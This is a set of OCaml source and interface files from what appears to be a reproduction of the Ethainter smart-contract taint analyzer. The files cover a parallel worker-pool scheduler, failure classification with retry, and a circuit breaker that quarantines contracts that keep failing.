val pp_cache_stats : Format.formatter -> unit -> unit
(** Two labeled lines, front-end then back-end stats (the CLIs' stats
    output). *)

(** {1 Codecs}

    The disk tier's versioned serializations; both are total —
    [decode_*] returns [None] on any corrupt, truncated or
    wrong-version payload (exposed for the cache tests and the bench
    differential check).

    Both codecs are {b self-validating}: a keccak digest over the
    payload is checked before anything is parsed, so a corrupted disk
    entry (bit rot, injected faults) decodes to [None] — a miss —
    rather than to a plausible-but-wrong value. The result codec is a
    self-describing text format (digest line, then an
    ["ethainter.result.v2"] header). The front-end codec wraps a
    [Marshal] payload in a header carrying the codec version, the
    compiler version (Marshal's format is build-dependent) and the
    digest; the payload is only unmarshalled after the header fully
    validates. *)

val encode_result : result -> string
val decode_result : string -> result option

val encode_frontend : frontend -> string
val decode_frontend : string -> frontend option
