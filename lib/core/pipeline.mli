(** End-to-end analysis pipeline: bytecode → decompile → facts →
    fixpoint → reports. The per-contract unit of work the paper runs
    over the whole blockchain (§6: combined 120 s cutoff for
    decompilation plus the information-flow analysis). *)

type result = {
  reports : Vulns.report list;
  tac_loc : int;          (** 3-address statements (the paper's corpus unit) *)
  blocks : int;
  analysis_rounds : int;  (** fixpoint rounds taken *)
  elapsed_s : float;
  timed_out : bool;
  error : string option;  (** per-contract failure, if any *)
}

val empty_result : result

val analyze_runtime :
  ?cfg:Config.t -> ?timeout_s:float -> string -> result
(** Analyze runtime bytecode. [timeout_s] mimics the paper's cutoff
    (default 120 s); on expiry the result carries [timed_out = true]
    and no reports. Expected decompile/analysis exceptions from
    malformed bytecode are contained and recorded in [error];
    asynchronous/fatal exceptions ([Out_of_memory], [Stack_overflow],
    [Assert_failure], ...) propagate — the {!Scheduler} isolates those
    per contract. *)

val analyze_hex : ?cfg:Config.t -> ?timeout_s:float -> string -> result
(** Same, for hex-encoded bytecode (the format of blockchain dumps). *)

val flagged_kinds : result -> Vulns.kind list
(** Distinct vulnerability kinds present in the reports, sorted. *)

val flags : result -> Vulns.kind -> bool
(** Is any report of this kind present? *)
