(** Parallel corpus scheduler.

    The paper analyzes the whole blockchain with a parallel Soufflé
    backend at concurrency 45 (§6.3); this module is the reproduction's
    equivalent: a [Domain]-based worker pool (OCaml 5 multicore) that
    maps a per-contract analysis over a corpus.

    Guarantees:
    - {b deterministic ordering} — results come back in input order,
      regardless of worker count or completion order, so a parallel run
      is byte-identical (reports, flags, errors) to a sequential one;
    - {b per-contract fault isolation} — an exception in one contract
      (including [Out_of_memory] / [Stack_overflow], which
      {!Pipeline.run} deliberately lets escape) is captured into that
      contract's slot and never kills the pool;
    - {b bounded workers} — [workers] defaults to [ETHAINTER_WORKERS]
      or the machine's recommended domain count. *)

(* ------------------------------------------------------------------ *)
(* Worker pool                                                         *)
(* ------------------------------------------------------------------ *)

let default_workers () =
  match Sys.getenv_opt "ETHAINTER_WORKERS" with
  | Some s -> (
      match int_of_string_opt (String.trim s) with
      | Some n when n >= 1 -> n
      | _ -> Domain.recommended_domain_count ())
  | None -> Domain.recommended_domain_count ()

(* Workers claim contiguous chunks of the input with an atomic cursor
   (no per-item contention, no work stealing needed: chunks are small
   enough that the tail imbalance is bounded by one chunk per worker).
   Each result lands in its input slot, which is what makes ordering
   deterministic. *)
let run_pool ~(workers : int) (n : int) (work : int -> unit) : unit =
  if n > 0 then begin
    let workers = max 1 (min workers n) in
    let chunk = max 1 (n / (workers * 8)) in
    let cursor = Atomic.make 0 in
    let worker () =
      let rec loop () =
        let lo = Atomic.fetch_and_add cursor chunk in
        if lo < n then begin
          let hi = min n (lo + chunk) in
          for i = lo to hi - 1 do
            work i
          done;
          loop ()
        end
      in
      loop ()
    in
    if workers = 1 then worker ()
    else begin
      let domains = List.init (workers - 1) (fun _ -> Domain.spawn worker) in
      worker ();
      List.iter Domain.join domains
    end
  end

(** Parallel [List.map] with deterministic (input-order) results. [f]
    must be safe to run concurrently with itself. Per-item exceptions
    are captured and re-raised — in input order — only after the whole
    pool has drained, so one bad item never tears down in-flight work
    on other domains. *)
let map ?workers (f : 'a -> 'b) (xs : 'a list) : 'b list =
  let workers = match workers with Some w -> w | None -> default_workers () in
  let input = Array.of_list xs in
  let n = Array.length input in
  let out : ('b, exn * Printexc.raw_backtrace) result option array =
    Array.make n None
  in
  run_pool ~workers n (fun i ->
      out.(i) <-
        Some (match f input.(i) with
             | y -> Ok y
             | exception e ->
                 (* capture the worker-domain backtrace here, at the
                    catch site — re-raising on the caller's domain
                    would otherwise lose it *)
                 Error (e, Printexc.get_raw_backtrace ())));
  Array.to_list out
  |> List.map (function
       | Some (Ok y) -> y
       | Some (Error (e, bt)) -> Printexc.raise_with_backtrace e bt
       | None -> assert false)

(* ------------------------------------------------------------------ *)
(* Failure classification                                              *)
(* ------------------------------------------------------------------ *)

type failure = {
  f_exn : string;
  f_kind : Pipeline.error_kind;
  f_backtrace : string;
}

(** Map an escaped exception onto the {!Pipeline.error_kind} taxonomy.
    [Io] is the transient class — an injected fault or a flaky
    filesystem, worth one retry; everything else that escapes the
    pipeline is a resource or logic failure. *)
let classify_exn : exn -> Pipeline.error_kind = function
  | Ethainter_runtime.Deadline.Expired -> Pipeline.Timeout
  | Ethainter_runtime.Fault.Injected _ -> Pipeline.Io
  | Sys_error _ | Unix.Unix_error _ -> Pipeline.Io
  | Out_of_memory | Stack_overflow -> Pipeline.Fatal
  | _ -> Pipeline.Fatal

(* The first backtrace slot names where the exception was raised —
   the part of a backtrace worth carrying into a one-line corpus
   report. *)
let backtrace_summary (bt : Printexc.raw_backtrace) : string =
  let s = Printexc.raw_backtrace_to_string bt in
  match String.index_opt s '\n' with
  | Some i -> String.trim (String.sub s 0 i)
  | None -> String.trim s

let failure_of (e : exn) (bt : Printexc.raw_backtrace) : failure =
  { f_exn = Printexc.to_string e;
    f_kind = classify_exn e;
    f_backtrace = backtrace_summary bt }

(** Like {!map}, but with per-item fault isolation: an exception in [f]
    becomes [Error failure] — message, {!Pipeline.error_kind} and a
    backtrace summary — for that item instead of propagating. *)
let map_result ?workers (f : 'a -> 'b) (xs : 'a list) :
    ('b, failure) result list =
  map ?workers
    (fun x ->
      match f x with
      | y -> Ok y
      | exception e ->
          (* capture at the catch site, on the worker domain *)
          Error (failure_of e (Printexc.get_raw_backtrace ())))
    xs

(* ------------------------------------------------------------------ *)
(* Corpus analysis                                                     *)
(* ------------------------------------------------------------------ *)

(* Process-wide retry counter. Monotonic for the life of the process —
   there is deliberately no reset: concurrent observers (chaos tests,
   the daemon's stats endpoint, the streaming index) each read it
   through {!Telemetry} and diff against their own baseline, so one
   observer can never erase another's window. *)
let retries = Atomic.make 0
let retries_performed () = Atomic.get retries

(** {!Pipeline.run} with total fault isolation: any exception the
    pipeline lets escape (fatal or asynchronous) is recorded in the
    result's [error] field, classified under [error_kind], with a
    backtrace summary appended to the message. Failures classified
    transient ({!Pipeline.Io}: injected faults, filesystem trouble)
    get one bounded retry — re-run under attempt number 1, which
    re-seeds the fault-injection draws so a deterministic injection
    does not deterministically re-fire. This is the per-contract unit
    of work the pool runs — every corpus sweep funnels through it, so
    every sweep shares the {!Pipeline} result cache. *)
let analyze_request (req : Pipeline.request) : Pipeline.result =
  let attempt n =
    Ethainter_runtime.Fault.with_attempt n (fun () -> Pipeline.run req)
  in
  let fail e bt =
    let f = failure_of e bt in
    let msg =
      if f.f_backtrace = "" then f.f_exn
      else Printf.sprintf "%s [%s]" f.f_exn f.f_backtrace
    in
    { Pipeline.empty_result with error = Some msg;
      error_kind = Some f.f_kind }
  in
  match attempt 0 with
  | r -> r
  | exception e -> (
      let bt = Printexc.get_raw_backtrace () in
      match classify_exn e with
      | Pipeline.Io -> (
          Atomic.incr retries;
          match attempt 1 with
          | r -> r
          | exception e2 -> fail e2 (Printexc.get_raw_backtrace ()))
      | _ -> fail e bt)

(* ------------------------------------------------------------------ *)
(* Persistent worker pool (the serving path)                           *)
(* ------------------------------------------------------------------ *)

(* The batch pool above spawns domains per call — fine for a sweep,
   wrong for a daemon, where domain spawn cost and cold domain-local
   caches (intern read-through, ifspec plans) would be paid per
   request batch. [Pool] keeps a fixed set of worker domains alive
   behind a bounded job queue: jobs past the bound are refused
   immediately (admission control — the daemon turns that refusal into
   a classified [overloaded] response instead of queueing unboundedly),
   and the workers' domain-local state stays warm for the life of the
   pool. *)
module Pool = struct
  type pool_stats = {
    p_workers : int;
    p_capacity : int;
    p_depth : int;      (* jobs queued, not yet picked up *)
    p_running : int;    (* jobs currently executing *)
    p_submitted : int;
    p_completed : int;
    p_shed : int;       (* submissions refused at the bound *)
  }

  type t = {
    mu : Mutex.t;
    nonempty : Condition.t;
    jobs : (unit -> unit) Queue.t;
    capacity : int;
    mutable stopping : bool;
    domains : unit Domain.t list ref;
    n_workers : int;
    (* counters the daemon's stats endpoint reads while workers write:
       Atomic, never plain mutable ints (depth lives under [mu]) *)
    running : int Atomic.t;
    submitted : int Atomic.t;
    completed : int Atomic.t;
    shed : int Atomic.t;
  }

  (* A job that raises must never kill its worker domain — the pool
     outlives any one request. Jobs are expected to contain their own
     failures (the daemon wraps analysis in [analyze_request], which is
     total); anything that still escapes is swallowed here. *)
  let run_job t job =
    Atomic.incr t.running;
    (try job () with _ -> ());
    Atomic.decr t.running;
    Atomic.incr t.completed

  let worker t () =
    let rec loop () =
      let job =
        Mutex.lock t.mu;
        let rec take () =
          if not (Queue.is_empty t.jobs) then Some (Queue.pop t.jobs)
          else if t.stopping then None
          else begin
            Condition.wait t.nonempty t.mu;
            take ()
          end
        in
        let j = take () in
        Mutex.unlock t.mu;
        j
      in
      match job with
      | Some job ->
          run_job t job;
          loop ()
      | None -> ()
    in
    loop ()

  let create ?workers ?(queue_depth = 64) () =
    let n_workers =
      max 1 (match workers with Some w -> w | None -> default_workers ())
    in
    let t =
      { mu = Mutex.create ();
        nonempty = Condition.create ();
        jobs = Queue.create ();
        capacity = max 1 queue_depth;
        stopping = false;
        domains = ref [];
        n_workers;
        running = Atomic.make 0;
        submitted = Atomic.make 0;
        completed = Atomic.make 0;
        shed = Atomic.make 0 }
    in
    t.domains := List.init n_workers (fun _ -> Domain.spawn (worker t));
    t

  (* Admission control: accept iff the queue is below its bound.
     Refusal is immediate — the caller gets [false] without blocking,
     which is what lets the daemon's reader thread answer [overloaded]
     with constant latency even under total overload. *)
  let submit t job =
    let accepted =
      Mutex.lock t.mu;
      let ok = (not t.stopping) && Queue.length t.jobs < t.capacity in
      if ok then begin
        Queue.push job t.jobs;
        Condition.signal t.nonempty
      end;
      Mutex.unlock t.mu;
      ok
    in
    if accepted then Atomic.incr t.submitted else Atomic.incr t.shed;
    accepted

  let stats t =
    let depth =
      Mutex.lock t.mu;
      let d = Queue.length t.jobs in
      Mutex.unlock t.mu;
      d
    in
    { p_workers = t.n_workers;
      p_capacity = t.capacity;
      p_depth = depth;
      p_running = Atomic.get t.running;
      p_submitted = Atomic.get t.submitted;
      p_completed = Atomic.get t.completed;
      p_shed = Atomic.get t.shed }

  (* Drain-and-join: queued jobs still run; new submissions are
     refused. Idempotent. *)
  let shutdown t =
    Mutex.lock t.mu;
    t.stopping <- true;
    Condition.broadcast t.nonempty;
    Mutex.unlock t.mu;
    let ds = !(t.domains) in
    t.domains := [];
    List.iter Domain.join ds
end

(* ------------------------------------------------------------------ *)
(* Poison-pill quarantine (per-contract circuit breaker)               *)
(* ------------------------------------------------------------------ *)

(* One adversarial contract that times out or crashes its worker on
   every attempt must not be allowed to burn a full deadline budget per
   re-analysis forever. The breaker counts consecutive failures per
   contract key (runtime bytecode); at [threshold] it opens and
   rejections are immediate — no pool slot, no deadline burned — until
   an exponentially growing backoff elapses and one probe is admitted.
   A success closes the breaker and forgets the key.

   State is process-wide (one table, one mutex): the breaker protects
   shared workers, so its view must span every index/daemon consumer in
   the process. Counters are monotonic; observers diff. *)
module Quarantine = struct
  type qstats = {
    q_tracked : int;     (* keys with at least one consecutive failure *)
    q_open : int;        (* breakers currently open *)
    q_trips : int;       (* total open transitions since process start *)
    q_rejections : int;  (* admissions refused while open *)
  }

  type entry = {
    mutable consecutive : int;
    mutable trips : int;       (* times THIS key tripped the breaker *)
    mutable open_until : float (* absolute deadline; 0. = closed *)
  }

  let threshold = 3
  let base_backoff_s = 0.25
  let max_backoff_s = 60.0

  let enabled_flag = Atomic.make true
  let set_enabled b = Atomic.set enabled_flag b
  let enabled () = Atomic.get enabled_flag

  let mu = Mutex.create ()
  let tbl : (string, entry) Hashtbl.t = Hashtbl.create 64
  let trips_total = Atomic.make 0
  let rejections_total = Atomic.make 0

  let locked f =
    Mutex.lock mu;
    Fun.protect ~finally:(fun () -> Mutex.unlock mu) f

  type decision =
    | Admit
    | Reject of { r_failures : int; r_retry_in_s : float }

  let check ?now key =
    if not (Atomic.get enabled_flag) then Admit
    else
      let now = match now with Some t -> t | None -> Unix.gettimeofday () in
      locked (fun () ->
          match Hashtbl.find_opt tbl key with
          | Some e when e.open_until > now ->
              Atomic.incr rejections_total;
              Reject { r_failures = e.consecutive;
                       r_retry_in_s = e.open_until -. now }
          | _ -> Admit)

  (* Pure read for retry scans: does not count a rejection. *)
  let is_open ?now key =
    if not (Atomic.get enabled_flag) then false
    else
      let now = match now with Some t -> t | None -> Unix.gettimeofday () in
      locked (fun () ->
          match Hashtbl.find_opt tbl key with
          | Some e -> e.open_until > now
          | None -> false)

  let failures key =
    locked (fun () ->
        match Hashtbl.find_opt tbl key with
        | Some e -> e.consecutive
        | None -> 0)

  let record ?now key ~ok =
    if Atomic.get enabled_flag then
      let now = match now with Some t -> t | None -> Unix.gettimeofday () in
      locked (fun () ->
          if ok then Hashtbl.remove tbl key
          else begin
            let e =
              match Hashtbl.find_opt tbl key with
              | Some e -> e
              | None ->
                  let e = { consecutive = 0; trips = 0; open_until = 0. } in
                  Hashtbl.add tbl key e;
                  e
            in
            e.consecutive <- e.consecutive + 1;
            if e.consecutive >= threshold then begin
              (* every failure at/past the threshold re-opens, doubling
                 the backoff: a failed probe waits longer than the trip
                 that preceded it *)
              e.trips <- e.trips + 1;
              Atomic.incr trips_total;
              let backoff =
                Float.min max_backoff_s
                  (base_backoff_s *. (2. ** float_of_int (e.trips - 1)))
              in
              e.open_until <- now +. backoff
            end
          end)

  let stats ?now () =
    let now = match now with Some t -> t | None -> Unix.gettimeofday () in
    let tracked, opened =
      locked (fun () ->
          Hashtbl.fold
            (fun _ e (t, o) -> (t + 1, if e.open_until > now then o + 1 else o))
            tbl (0, 0))
    in
    { q_tracked = tracked;
      q_open = opened;
      q_trips = Atomic.get trips_total;
      q_rejections = Atomic.get rejections_total }

  (* Test/bench isolation: forget per-key state. The monotonic counters
     are deliberately left alone (observers diff). *)
  let clear () = locked (fun () -> Hashtbl.reset tbl)
end

(** Analyze a batch of requests on the worker pool. Results are in
    input order and identical to a sequential run. *)
let analyze_requests ?workers (reqs : Pipeline.request list) :
    Pipeline.result list =
  map ?workers analyze_request reqs

(** Analyze a corpus of runtime bytecodes on the worker pool. *)
let analyze_corpus ?cfg ?timeout_s ?workers (runtimes : string list) :
    Pipeline.result list =
  analyze_requests ?workers
    (List.map
       (fun code -> Pipeline.request ?cfg ?timeout_s (Pipeline.Runtime code))
       runtimes)
