(** Parallel corpus scheduler.

    The paper analyzes the whole blockchain with a parallel Soufflé
    backend at concurrency 45 (§6.3); this module is the reproduction's
    equivalent: a [Domain]-based worker pool (OCaml 5 multicore) that
    maps a per-contract analysis over a corpus.

    Guarantees:
    - {b deterministic ordering} — results come back in input order,
      regardless of worker count or completion order, so a parallel run
      is byte-identical (reports, flags, errors) to a sequential one;
    - {b per-contract fault isolation} — an exception in one contract
      (including [Out_of_memory] / [Stack_overflow], which
      {!Pipeline.analyze_runtime} deliberately lets escape) is captured
      into that contract's slot and never kills the pool;
    - {b bounded workers} — [workers] defaults to [ETHAINTER_WORKERS]
      or the machine's recommended domain count. *)

(* ------------------------------------------------------------------ *)
(* Worker pool                                                         *)
(* ------------------------------------------------------------------ *)

let default_workers () =
  match Sys.getenv_opt "ETHAINTER_WORKERS" with
  | Some s -> (
      match int_of_string_opt (String.trim s) with
      | Some n when n >= 1 -> n
      | _ -> Domain.recommended_domain_count ())
  | None -> Domain.recommended_domain_count ()

(* Workers claim contiguous chunks of the input with an atomic cursor
   (no per-item contention, no work stealing needed: chunks are small
   enough that the tail imbalance is bounded by one chunk per worker).
   Each result lands in its input slot, which is what makes ordering
   deterministic. *)
let run_pool ~(workers : int) (n : int) (work : int -> unit) : unit =
  if n > 0 then begin
    let workers = max 1 (min workers n) in
    let chunk = max 1 (n / (workers * 8)) in
    let cursor = Atomic.make 0 in
    let worker () =
      let rec loop () =
        let lo = Atomic.fetch_and_add cursor chunk in
        if lo < n then begin
          let hi = min n (lo + chunk) in
          for i = lo to hi - 1 do
            work i
          done;
          loop ()
        end
      in
      loop ()
    in
    if workers = 1 then worker ()
    else begin
      let domains = List.init (workers - 1) (fun _ -> Domain.spawn worker) in
      worker ();
      List.iter Domain.join domains
    end
  end

(** Parallel [List.map] with deterministic (input-order) results. [f]
    must be safe to run concurrently with itself. Per-item exceptions
    are captured and re-raised — in input order — only after the whole
    pool has drained, so one bad item never tears down in-flight work
    on other domains. *)
let map ?workers (f : 'a -> 'b) (xs : 'a list) : 'b list =
  let workers = match workers with Some w -> w | None -> default_workers () in
  let input = Array.of_list xs in
  let n = Array.length input in
  let out : ('b, exn * Printexc.raw_backtrace) result option array =
    Array.make n None
  in
  run_pool ~workers n (fun i ->
      out.(i) <-
        Some (match f input.(i) with
             | y -> Ok y
             | exception e ->
                 (* capture the worker-domain backtrace here, at the
                    catch site — re-raising on the caller's domain
                    would otherwise lose it *)
                 Error (e, Printexc.get_raw_backtrace ())));
  Array.to_list out
  |> List.map (function
       | Some (Ok y) -> y
       | Some (Error (e, bt)) -> Printexc.raise_with_backtrace e bt
       | None -> assert false)

(* ------------------------------------------------------------------ *)
(* Failure classification                                              *)
(* ------------------------------------------------------------------ *)

type failure = {
  f_exn : string;
  f_kind : Pipeline.error_kind;
  f_backtrace : string;
}

(** Map an escaped exception onto the {!Pipeline.error_kind} taxonomy.
    [Io] is the transient class — an injected fault or a flaky
    filesystem, worth one retry; everything else that escapes the
    pipeline is a resource or logic failure. *)
let classify_exn : exn -> Pipeline.error_kind = function
  | Ethainter_runtime.Deadline.Expired -> Pipeline.Timeout
  | Ethainter_runtime.Fault.Injected _ -> Pipeline.Io
  | Sys_error _ | Unix.Unix_error _ -> Pipeline.Io
  | Out_of_memory | Stack_overflow -> Pipeline.Fatal
  | _ -> Pipeline.Fatal

(* The first backtrace slot names where the exception was raised —
   the part of a backtrace worth carrying into a one-line corpus
   report. *)
let backtrace_summary (bt : Printexc.raw_backtrace) : string =
  let s = Printexc.raw_backtrace_to_string bt in
  match String.index_opt s '\n' with
  | Some i -> String.trim (String.sub s 0 i)
  | None -> String.trim s

let failure_of (e : exn) (bt : Printexc.raw_backtrace) : failure =
  { f_exn = Printexc.to_string e;
    f_kind = classify_exn e;
    f_backtrace = backtrace_summary bt }

(** Like {!map}, but with per-item fault isolation: an exception in [f]
    becomes [Error failure] — message, {!Pipeline.error_kind} and a
    backtrace summary — for that item instead of propagating. *)
let map_result ?workers (f : 'a -> 'b) (xs : 'a list) :
    ('b, failure) result list =
  map ?workers
    (fun x ->
      match f x with
      | y -> Ok y
      | exception e ->
          (* capture at the catch site, on the worker domain *)
          Error (failure_of e (Printexc.get_raw_backtrace ())))
    xs

(* ------------------------------------------------------------------ *)
(* Corpus analysis                                                     *)
(* ------------------------------------------------------------------ *)

(* Process-wide retry counter, observable by the chaos tests. *)
let retries = Atomic.make 0
let retries_performed () = Atomic.get retries
let reset_retries () = Atomic.set retries 0

(** {!Pipeline.run} with total fault isolation: any exception the
    pipeline lets escape (fatal or asynchronous) is recorded in the
    result's [error] field, classified under [error_kind], with a
    backtrace summary appended to the message. Failures classified
    transient ({!Pipeline.Io}: injected faults, filesystem trouble)
    get one bounded retry — re-run under attempt number 1, which
    re-seeds the fault-injection draws so a deterministic injection
    does not deterministically re-fire. This is the per-contract unit
    of work the pool runs — every corpus sweep funnels through it, so
    every sweep shares the {!Pipeline} result cache. *)
let analyze_request (req : Pipeline.request) : Pipeline.result =
  let attempt n =
    Ethainter_runtime.Fault.with_attempt n (fun () -> Pipeline.run req)
  in
  let fail e bt =
    let f = failure_of e bt in
    let msg =
      if f.f_backtrace = "" then f.f_exn
      else Printf.sprintf "%s [%s]" f.f_exn f.f_backtrace
    in
    { Pipeline.empty_result with error = Some msg;
      error_kind = Some f.f_kind }
  in
  match attempt 0 with
  | r -> r
  | exception e -> (
      let bt = Printexc.get_raw_backtrace () in
      match classify_exn e with
      | Pipeline.Io -> (
          Atomic.incr retries;
          match attempt 1 with
          | r -> r
          | exception e2 -> fail e2 (Printexc.get_raw_backtrace ()))
      | _ -> fail e bt)

let analyze_runtime ?cfg ?timeout_s (runtime : string) : Pipeline.result =
  analyze_request (Pipeline.request ?cfg ?timeout_s (Pipeline.Runtime runtime))

(** Analyze a batch of requests on the worker pool. Results are in
    input order and identical to a sequential run. *)
let analyze_requests ?workers (reqs : Pipeline.request list) :
    Pipeline.result list =
  map ?workers analyze_request reqs

(** Analyze a corpus of runtime bytecodes on the worker pool. *)
let analyze_corpus ?cfg ?timeout_s ?workers (runtimes : string list) :
    Pipeline.result list =
  analyze_requests ?workers
    (List.map
       (fun code -> Pipeline.request ?cfg ?timeout_s (Pipeline.Runtime code))
       runtimes)
