(** Parallel corpus scheduler: a [Domain]-based worker pool mapping the
    per-contract analysis over a corpus, with deterministic result
    ordering and per-contract fault isolation (the reproduction's
    stand-in for the paper's §6.3 concurrency-45 Soufflé runs). *)

val default_workers : unit -> int
(** [ETHAINTER_WORKERS] if set to a positive integer, otherwise
    [Domain.recommended_domain_count ()]. *)

val map : ?workers:int -> ('a -> 'b) -> 'a list -> 'b list
(** Parallel map with results in input order, independent of worker
    count and completion order. [f] must be safe to run concurrently
    with itself. A per-item exception is re-raised (in input order)
    only after the pool has drained, with the worker-domain backtrace
    preserved ([Printexc.raise_with_backtrace]). [workers] defaults to
    {!default_workers}; [~workers:1] runs on the calling domain. *)

val map_result :
  ?workers:int -> ('a -> 'b) -> 'a list -> ('b, string) result list
(** {!map} with per-item fault isolation: an exception in [f] yields
    [Error message] for that item instead of propagating. *)

val analyze_request : Pipeline.request -> Pipeline.result
(** {!Pipeline.run} with total fault isolation: any escaped exception
    (including [Out_of_memory] / [Stack_overflow]) is recorded in the
    result's [error] field instead of propagating. *)

val analyze_runtime :
  ?cfg:Config.t -> ?timeout_s:float -> string -> Pipeline.result
(** [analyze_request] on [Pipeline.request (Runtime code)]. *)

val analyze_requests :
  ?workers:int -> Pipeline.request list -> Pipeline.result list
(** Analyze a batch of requests on the worker pool; results are in
    input order and identical to a sequential run (ordering determinism
    + fault isolation make worker count unobservable in the output).
    Cache hits are shared across the batch and across batches — the
    {!Pipeline} cache is process-wide. *)

val analyze_corpus :
  ?cfg:Config.t -> ?timeout_s:float -> ?workers:int ->
  string list -> Pipeline.result list
(** [analyze_requests] over runtime bytecodes under one config. *)
