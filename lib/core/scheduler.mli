(** Parallel corpus scheduler: a [Domain]-based worker pool mapping the
    per-contract analysis over a corpus, with deterministic result
    ordering and per-contract fault isolation (the reproduction's
    stand-in for the paper's §6.3 concurrency-45 Soufflé runs). *)

val default_workers : unit -> int
(** [ETHAINTER_WORKERS] if set to a positive integer, otherwise
    [Domain.recommended_domain_count ()]. *)

val map : ?workers:int -> ('a -> 'b) -> 'a list -> 'b list
(** Parallel map with results in input order, independent of worker
    count and completion order. [f] must be safe to run concurrently
    with itself. A per-item exception is re-raised (in input order)
    only after the pool has drained, with the worker-domain backtrace
    preserved ([Printexc.raise_with_backtrace]). [workers] defaults to
    {!default_workers}; [~workers:1] runs on the calling domain. *)

type failure = {
  f_exn : string;        (** [Printexc.to_string] of the exception *)
  f_kind : Pipeline.error_kind;
  f_backtrace : string;  (** raise site (first backtrace slot), or [""]
                             when backtrace recording is off *)
}
(** A captured per-item failure: what a corpus report needs to
    distinguish a timeout from a crash from a flaky disk. *)

val classify_exn : exn -> Pipeline.error_kind
(** {!Deadline.Expired} → [Timeout]; {!Fault.Injected}, [Sys_error],
    [Unix_error] → [Io] (the transient class, retried once by
    {!analyze_request}); [Out_of_memory], [Stack_overflow] and
    anything else → [Fatal]. *)

val map_result :
  ?workers:int -> ('a -> 'b) -> 'a list -> ('b, failure) result list
(** {!map} with per-item fault isolation: an exception in [f] yields
    [Error failure] for that item instead of propagating, with the
    backtrace captured on the worker domain at the catch site. *)

val analyze_request : Pipeline.request -> Pipeline.result
(** {!Pipeline.run} with total fault isolation: any escaped exception
    (including [Out_of_memory] / [Stack_overflow]) is recorded in the
    result's [error] field — classified under [error_kind], backtrace
    summary appended — instead of propagating. Transient failures
    ([Io]) are retried once, under fault-injection attempt number 1. *)

val retries_performed : unit -> int
(** Process-wide count of transient-failure retries since process
    start. {b Monotonic} — there is no reset. Observers that want a
    per-window count (tests, the daemon, the streaming index) read a
    baseline first and diff, so concurrent observers never race on a
    shared zero (also surfaced through {!Telemetry}). *)

(** A persistent worker pool behind a bounded job queue — the serving
    path. Unlike {!map} (which spawns domains per batch), a [Pool]'s
    worker domains stay alive across requests, keeping their
    domain-local state (intern read-through caches, per-domain ifspec
    plans) warm, and its queue applies admission control: a submission
    past the bound is refused immediately rather than queued, so a
    daemon under overload sheds with constant latency instead of
    collapsing. *)
module Pool : sig
  type t

  type pool_stats = {
    p_workers : int;
    p_capacity : int;   (** queue bound *)
    p_depth : int;      (** jobs queued, not yet picked up *)
    p_running : int;    (** jobs currently executing on workers *)
    p_submitted : int;  (** accepted submissions since {!create} *)
    p_completed : int;
    p_shed : int;       (** submissions refused at the bound *)
  }

  val create : ?workers:int -> ?queue_depth:int -> unit -> t
  (** Spawn [workers] (default {!default_workers}) domains behind a
      queue bounded at [queue_depth] (default 64, min 1). *)

  val submit : t -> (unit -> unit) -> bool
  (** Enqueue a job, or refuse: [false] means the queue is at its
      bound (or the pool is shutting down) and the job was {e not}
      enqueued — the call never blocks. A job must contain its own
      failures; an exception that escapes it is swallowed (the pool
      survives), so wrap analysis in {!analyze_request}, which is
      total. *)

  val stats : t -> pool_stats
  (** Coherent snapshot: counters are [Atomic], depth is read under
      the queue mutex — safe to call from any thread/domain while
      workers run (the daemon's stats endpoint does). *)

  val shutdown : t -> unit
  (** Refuse new submissions, let queued jobs drain, join the worker
      domains. Idempotent. *)
end

(** Poison-pill quarantine: a process-wide per-contract circuit
    breaker protecting the worker pool from adversarial contracts.
    {!threshold} consecutive failures (timeouts / fatal crashes, as
    judged by the caller via {!record}) open the breaker for that
    contract key: {!check} then answers [Reject] immediately — no pool
    slot, no deadline budget — until an exponentially growing backoff
    ([0.25 s · 2{^ trips-1}], capped at 60 s) elapses and one probe is
    admitted. A successful analysis closes the breaker and forgets the
    key. The streaming index consults it per re-analysis job and
    surfaces rejected contracts as [Quarantined] verdicts. *)
module Quarantine : sig
  type qstats = {
    q_tracked : int;     (** keys with ≥1 consecutive failure on record *)
    q_open : int;        (** breakers currently open *)
    q_trips : int;       (** open transitions since process start (monotonic) *)
    q_rejections : int;  (** admissions refused while open (monotonic) *)
  }

  type decision =
    | Admit
    | Reject of { r_failures : int; r_retry_in_s : float }

  val threshold : int
  (** Consecutive failures that trip the breaker (3). *)

  val check : ?now:float -> string -> decision
  (** Admission decision for one analysis of contract [key] (runtime
      bytecode). [Reject] counts toward [q_rejections]. [?now]
      overrides the wall clock (tests). *)

  val record : ?now:float -> string -> ok:bool -> unit
  (** Report the outcome of an admitted analysis. [ok:true] closes and
      forgets the key; [ok:false] increments its consecutive-failure
      count and (re-)opens the breaker at {!threshold}, doubling the
      backoff on each subsequent trip. *)

  val is_open : ?now:float -> string -> bool
  (** Non-counting read: is the breaker for [key] currently open?
      Retry scans use this so polling does not inflate
      [q_rejections]. *)

  val failures : string -> int
  (** Consecutive failures on record for [key] (0 if unknown). *)

  val stats : ?now:float -> unit -> qstats

  val set_enabled : bool -> unit
  (** Disable to make {!check} always [Admit] and {!record} a no-op
      (bench baseline: "what does the queue look like without the
      breaker"). Enabled by default. *)

  val enabled : unit -> bool

  val clear : unit -> unit
  (** Forget all per-key state (test isolation). The monotonic
      counters are not reset. *)
end

val analyze_requests :
  ?workers:int -> Pipeline.request list -> Pipeline.result list
(** Analyze a batch of requests on the worker pool; results are in
    input order and identical to a sequential run (ordering determinism
    + fault isolation make worker count unobservable in the output).
    Cache hits are shared across the batch and across batches — the
    {!Pipeline} cache is process-wide. *)

val analyze_corpus :
  ?cfg:Config.t -> ?timeout_s:float -> ?workers:int ->
  string list -> Pipeline.result list
(** [analyze_requests] over runtime bytecodes under one config. *)
