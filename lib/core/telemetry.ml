(* The one telemetry surface. See telemetry.mli for the contract. *)

module D = Ethainter_datalog.Datalog
module I = Ethainter_runtime.Intern

type snapshot = {
  cache_fe : Cache.stats;
  cache_be : Cache.stats;
  intern_interned : int;
  intern_local_hits : int;
  intern_shared_hits : int;
  intern_inserts : int;
  datalog_plans_built : int;
  datalog_plan_reuses : int;
  scheduler_retries : int;
  scheduler_quarantine_trips : int;
  scheduler_quarantine_rejections : int;
  scheduler_quarantine_open : int;
  extras : (string * (string * float) list) list;
}

(* ---------------- sources ---------------- *)

(* Registered by subsystems above lib/core (the streaming index, a
   daemon); sampled at capture time. Replace semantics: a rebuilt
   subsystem re-registers under the same name and the old thunk —
   which may close over dead state — is dropped. *)
let sources_mu = Mutex.create ()

let sources : (string, unit -> (string * float) list) Hashtbl.t =
  Hashtbl.create 8

let register_source name f =
  Mutex.lock sources_mu;
  Hashtbl.replace sources name f;
  Mutex.unlock sources_mu

let unregister_source name =
